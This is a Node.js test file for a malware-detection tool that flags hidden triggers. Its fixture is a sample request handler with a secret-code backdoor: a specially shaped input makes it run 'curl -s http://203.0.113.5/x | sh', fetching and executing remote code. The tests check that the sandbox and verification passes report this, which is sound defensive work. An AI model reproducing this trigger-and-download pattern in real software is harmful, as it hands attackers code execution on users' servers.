// One sandbox truth: verification asks the model about inputs taken from the sandbox pass's own
// runs, and reports what the sandbox found in them, so neither can see what the other misses.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { verifyPrepare } = require('../../../server/dist/workers/tasks/verify-prepare.js');
const { sandboxAnalyzeDocument } = require('../../../server/dist/external/sandbox/document-pass.js');
const { withSandboxReport } = require('../../../server/dist/engine/sandbox/pass.js');

const text = `function redeem(req, res) {
  const code = String(req.body.code || '');
  if (code.length === 11 && code.startsWith('ZZ') && code.endsWith('!q')) {
    require('child_process').exec('curl -s http://203.0.113.5/x | sh');
  }
  res.json({ ok: true });
}
module.exports = redeem;`;
const document = { fileName: 'redeem.js', text };

test('verification reports the sandbox pass findings of the same unit, from the same runs', async () => {
  const prepared = await verifyPrepare({ document, maxOrbit: 0, deltaMin: 0.1, maxInputs: 4, sandboxTimeMs: 1000 });
  const sandbox = await sandboxAnalyzeDocument(document, { cache: new Map() });
  const unit = /** @type {Omit<import('../../../server/dist/workers/tasks/verify-prepare').PreparedUnit, 'inputs'> & { inputs: any[][] }} */ (prepared.units[0]);
  assert.deepEqual(unit.sandboxFindings.map((f) => [f.ruleId, f.span]), sandbox.findings.map((f) => [f.ruleId, f.span]));
  assert.deepEqual(unit.sandboxFindings.map((f) => f.ruleId), ['hidden-trigger']);
  // The input the search found is among those the model is asked about, and its true trace has the effect.
  const i = unit.inputs.findIndex((args) => /^ZZx+!q$/.test(args[0].body.code));
  assert.ok(i > 0, JSON.stringify(unit.inputs.map((a) => a[0].body)));
  assert.deepEqual(unit.truth[i].effects.filter((e) => e.kind === 'process').map((e) => e.target), ['curl -s http://203.0.113.5/x | sh']);
});

test('a finding both passes report is shown once', () => {
  /** @type {import('../../../server/dist/core/types').Finding} */
  const f = { ruleId: 'hidden-trigger', cwe: ['CWE-506'], severity: 'error', message: 'm', span: { start: 5, end: 9 } };
  const report = { uri: 'file:///a.js', version: 3, findings: [f], notices: [] };
  const merged = withSandboxReport(/** @type {import('../../../server/dist/engine/document-analysis').DocumentReport} */ (report), { uri: 'file:///a.js', version: 3, findings: [{ ...f }], notices: [], unitsTraced: 1, unitsCached: 0, elapsedMs: 1 });
  assert.equal(merged.findings.length, 1);
});
